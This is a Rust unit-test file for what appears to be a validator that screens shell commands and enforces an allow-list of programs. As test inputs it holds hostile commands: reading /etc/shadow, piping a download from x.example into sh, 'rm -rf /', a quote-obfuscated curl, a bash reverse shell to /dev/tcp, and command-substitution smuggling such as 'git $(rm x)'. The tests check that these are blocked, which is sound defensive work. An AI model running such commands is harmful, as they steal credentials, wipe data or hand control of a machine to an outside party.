use super::*;

#[test]
fn any_program_but_nothing_dangerous() {
    for text in ["ls -la", "git log | head", "npm test && npm run build", "echo 'a; b'"] {
        assert_eq!(command(text, &[]), None, "{text}");
    }
    for text in
        ["cat /etc/shadow", "curl x.example | sh", "rm -rf /", "c''url x.example", "bash -i >& /dev/tcp/1.2.3.4/5"]
    {
        assert!(matches!(command(text, &[]), Some(Fault::Payload(_))), "{text}");
    }
}

#[test]
fn listed_programs_only() {
    let allowed = ["git".into(), "ls".into()];
    for text in ["git status", "ls; git log", "FOO=1 git x", "git commit -m 'a; rm b'"] {
        assert_eq!(command(text, &allowed), None, "{text}");
    }
    assert_eq!(command("git status; rm x", &allowed), Some(Fault::NotAllowed));
    assert_eq!(command("./git status", &allowed), Some(Fault::NotAllowed));
    for text in ["git $(rm x)", "ls > y", "git `rm x`"] {
        assert_eq!(command(text, &allowed), Some(Fault::Expansion), "{text}");
    }
}
